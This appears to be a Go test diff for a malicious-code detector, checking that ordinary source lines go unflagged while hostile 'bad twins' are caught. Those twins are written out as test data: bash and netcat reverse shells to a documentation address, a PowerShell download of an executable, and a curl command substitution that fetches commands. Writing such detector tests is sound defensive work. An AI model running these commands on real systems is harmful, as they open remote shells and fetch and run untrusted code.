@@ -81,3 +81,25 @@ func TestCodeMechanisms(t *testing.T) {
 		})
 	}
 }
+
+// TestCodeRealFileShapes: shapes of ordinary source that rules once took
+// for attacks: a method named like an exec form being defined, an SDK's
+// DownloadFile, a port probe through /dev/tcp, Go's "func " read as
+// netcat's "nc ", a raw string that starts with `curl. Each keeps a bad
+// twin. The lines are written for this test.
+func TestCodeRealFileShapes(t *testing.T) {
+	for _, tc := range []struct{ good, bad string }{
+		{"func (w *Writer) spawn(f func()) {\n\tgo f()\n}", "spawn(userCmd)"},
+		{"resp, err := client.DownloadFile(ctx, file, nil)", "(New-Object Net.WebClient).DownloadFile('http://example.test/a.exe', $p)"},
+		{"timeout 5 bash -c 'head -c 512 < /dev/tcp/nats/4222' || true", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"},
+		{"func mknodat(dirfd int, path string, mode uint32, dev int) (err error) {\n\t_, _, e1 := Syscall6(SYS_MKNODAT, 0, 0, 0, 0, 0, 0) // /bin/sh\n}", "mknod /tmp/p p && /bin/sh 0</tmp/p | nc 198.51.100.7 4444 1>/tmp/p"},
+		{"\t\t`curl -H \"Authorization: Bearer x\" \"http://127.0.0.1:8080/api\"`,", "$(curl -s https://example.test/cmd)"},
+	} {
+		if f := CheckCode(tc.good); len(f) > 0 {
+			t.Errorf("%q: flagged %v", tc.good, f)
+		}
+		if f := CheckCode(tc.bad); len(f) == 0 {
+			t.Errorf("%q: no finding", tc.bad)
+		}
+	}
+}
